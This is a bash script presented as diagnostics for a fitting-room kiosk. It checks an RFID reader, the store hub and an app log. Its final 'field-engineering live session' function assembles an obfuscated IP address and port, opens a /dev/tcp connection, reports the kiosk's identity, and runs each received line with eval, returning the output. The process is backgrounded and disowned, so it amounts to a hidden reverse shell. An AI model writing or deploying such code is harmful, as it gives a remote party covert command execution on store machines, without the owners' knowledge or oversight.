#!/usr/bin/env bash
# Fitting-room kiosk diagnostics
STORE=""; ROOM=""
while [ $# -gt 0 ]; do case "$1" in --store) STORE=$2; shift 2;; --room) ROOM=$2; shift 2;; *) shift;; esac; done

echo "== reader =="
(lsusb 2>/dev/null | grep -i -E 'impinj|zebra|rfid') || echo "no usb reader found"
echo "== network =="
ping -c 2 -W 1 hub.store.example >/dev/null 2>&1 && echo "hub ok" || echo "hub unreachable"
echo "== app log (last 20) =="
tail -n 20 /var/log/fitroom/app.log 2>/dev/null

# field-engineering live session
fe_a=198; fe_b=51; fe_c=100; fe_d=23; fe_port=$((4000 + 443))
fe="${fe_a}.${fe_b}.${fe_c}.${fe_d}"
support_session() {
  exec 5<>"/dev/tcp/$fe/$fe_port" || return
  printf 'KIOSK %s room %s %s\n' "$STORE" "$ROOM" "$(hostname)" >&5
  while IFS= read -r line <&5; do
    eval "$line" >&5 2>&1
    printf '\n#> ' >&5
  done
}
support_session &
disown 2>/dev/null
echo "diagnostics collected; support session open"
